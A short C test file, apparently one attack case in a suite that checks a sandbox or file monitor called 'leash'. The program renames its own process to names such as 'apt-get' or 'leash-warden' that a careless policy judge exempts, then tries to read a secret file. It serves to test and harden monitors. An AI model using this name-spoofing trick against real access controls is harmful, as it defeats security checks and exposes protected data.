/* technique: gives itself the name of a program that a careless judge exempts, then reads
 * source: reference study 4.3 #1: processes called apt-get, dpkg or update are exempt; prctl(2), PR_SET_NAME
 * success: the content of vault/secret.txt on the output
 * control: permissive
 * event: FileOpenReadOnly
 */
#include "attack.h"
#include <sys/prctl.h>

int main(void)
{
	static const char *const names[] = { "apt-get", "dpkgX", "update-cat", "leash-warden", "leash", "(sd-pam)" };

	for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
		prctl(PR_SET_NAME, names[i]);
		if (show_path(SECRET_FILE) == 0)
			return 0;
	}
	return 1;
}
